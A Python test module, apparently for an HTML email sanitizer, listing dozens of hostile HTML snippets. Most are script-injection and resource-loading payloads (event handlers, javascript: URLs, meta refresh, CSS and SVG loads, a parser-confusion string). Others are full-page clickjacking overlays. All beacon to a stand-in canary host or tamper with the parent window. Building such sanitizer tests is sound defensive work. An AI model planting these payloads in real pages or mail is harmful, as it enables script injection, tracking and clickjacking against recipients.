"""What a mail may try: each tells the canary its name, or changes what it can reach."""

from __future__ import annotations

_AT = "http://canary.example/"
_OWN = "try{parent.document.title='owned'}catch(e){} top.postMessage('owned','*'); alert('owned');"

# Whatever would load or connect by itself.
LOADS: dict[str, str] = {
    "script": f"<script>{_OWN} fetch('{_AT}script')</script><p>script</p>",
    "script-src": f'<script src="{_AT}script-src"></script>',
    "module": f'<script type=module>import "{_AT}module"</script>',
    "svg-script": f"<svg><script href='{_AT}svg-script'>{_OWN}</script></svg>",
    "onerror": f"<img src=data:, onerror=\"{_OWN} new Image().src='{_AT}onerror'\">",
    "onload": f'<body onload="location=\'{_AT}onload\'"><style onload="{_OWN}"></style>',
    "autofocus": f"<input autofocus onfocus=\"{_OWN} location='{_AT}autofocus'\">",
    "javascript-frame": f'<iframe src="javascript:{_OWN}"></iframe>',
    "animation": "<style>@keyframes x{}</style>"
    f'<p style="animation:x 1s" onanimationstart="{_OWN}">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={_AT}meta-refresh">',
    "meta-refresh-body": f"<p>x<META HTTP-EQUIV=REFRESH CONTENT='0; URL={_AT}meta-refresh-body'>",
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,<p>gone">',
    "base": f'<base href="{_AT}base/"><img src="picture.png"><link rel=stylesheet href=x.css>',
    "img": f'<img src="{_AT}img"><img srcset="{_AT}srcset 1x">',
    "img-relative": '<img src="//canary.example/img-relative">',
    "picture": f'<picture><source srcset="{_AT}picture"><img src="data:,"></picture>',
    "input-image": f'<input type="image" src="{_AT}input-image">',
    "background": f'<body background="{_AT}background"><table background="{_AT}background-2">',
    "style-url": f"<p style=\"background:url('{_AT}style-url');height:9px\">x</p>",
    "style-import": f"<style>@import '{_AT}style-import';</style>",
    "style-image-set": f"<style>body{{background:image-set('{_AT}image-set' 1x)}}</style>",
    "font": f"<style>@font-face{{font-family:f;src:url({_AT}font)}} p{{font:9px f}}</style><p>x",
    "cursor": f"<style>*{{cursor:url({_AT}cursor),auto;list-style:url({_AT}list)}}</style><li>x",
    "link-stylesheet": f'<link rel="stylesheet" href="{_AT}link-stylesheet">',
    "link-preload": f'<link rel="preload" as="image" href="{_AT}link-preload">',
    "link-prefetch": f'<link rel="prefetch" href="{_AT}link-prefetch">',
    "link-preconnect": f'<link rel="preconnect" href="{_AT}">'
    f'<link rel="dns-prefetch" href="{_AT}">',
    "link-modulepreload": f'<link rel="modulepreload" href="{_AT}modulepreload">',
    "link-prerender": f'<link rel="prerender" href="{_AT}prerender">',
    "link-icon": f'<link rel="icon" href="{_AT}icon"><link rel="manifest" href="{_AT}manifest">',
    "link-in-shadow": "<div><template shadowrootmode=open>"
    f'<link rel="preconnect" href="{_AT}"><img src="{_AT}shadow"></template></div>',
    "link-read-twice": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--><link rel=preconnect href={_AT}><script>{_OWN}</script>">',
    "speculation": '<script type="speculationrules">'
    f'{{"prefetch":[{{"urls":["{_AT}speculation"]}}]}}</script>',
    "iframe": f'<iframe src="{_AT}iframe"></iframe><frameset><frame src="{_AT}frame"></frameset>',
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>{_OWN}</script><img src='{_AT}srcdoc'>\"></iframe>",
    "object": f'<object data="{_AT}object"></object><embed src="{_AT}embed">',
    "media": f'<video src="{_AT}video" poster="{_AT}poster" autoplay></video>'
    f'<audio src="{_AT}audio" autoplay></audio><video><track src="{_AT}track" default></video>',
    "svg": f'<svg><image href="{_AT}svg"/><use href="{_AT}use#x"/><feImage href="{_AT}fe"/></svg>',
    "svg-animate": f'<svg><image><animate attributeName=href values="{_AT}animate"/></image></svg>',
    "svg-filter": f'<style>p{{filter:url("{_AT}filter#x");mask:url({_AT}mask)}}</style><p>x',
    "attribution": f'<img src="data:," attributionsrc="{_AT}attribution">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">'
    f'<img src="{_AT}policy">',
    "unclosed": f"<p>x<img src='{_AT}unclosed'><style>p{{}}</title></iframe></textarea>-->"
    f"<script>{_OWN}",
    "ends-the-page": f"</iframe></script></article><script>{_OWN}</script><img src={_AT}ends>",
}

_ALL = "position:fixed;inset:0;display:block;width:100%;height:100%"

# Whatever acts when it is clicked, and covers the whole frame so that it is.
CLICKS: dict[str, str] = {
    "link": f'<a style="{_ALL}" href="{_AT}link">x</a>',
    "link-self": f'<a style="{_ALL}" target="_self" href="{_AT}link-self">x</a>',
    "link-top": f'<a style="{_ALL}" target="_top" href="{_AT}link-top">x</a>',
    "link-blank": f'<a style="{_ALL}" target="_blank" href="{_AT}link-blank">x</a>',
    "link-ping": f'<a style="{_ALL}" href="#" ping="{_AT}ping">x</a>',
    "link-script": f'<a style="{_ALL}" href="javascript:{_OWN}">x</a>',
    "link-download": f'<a style="{_ALL}" href="{_AT}link-download" download>x</a>',
    "link-data": f'<a style="{_ALL}" href="data:text/html,<p>gone">x</a>',
    "link-svg": f'<svg style="{_ALL}"><a href="{_AT}svg" xlink:href="{_AT}svg">'
    '<rect width="2000" height="2000"/></a></svg>',
    "form": f'<form action="{_AT}form"><input name=a value=b>'
    f'<button style="{_ALL}">x</button></form>',
    "form-top": f'<form action="{_AT}form-top" method=post target=_top>'
    f'<button style="{_ALL}">x</button></form>',
    "formaction": f'<form><button style="{_ALL}" formtarget=_self formaction="{_AT}formaction">x'
    "</button></form>",
    "onclick": f'<p style="{_ALL}" onclick="{_OWN}">x</p>',
    "map": f'<img src="data:," style="{_ALL}" usemap=#m width=900 height=900>'
    f'<map name=m><area shape=default target=_self href="{_AT}map"></map>',
}
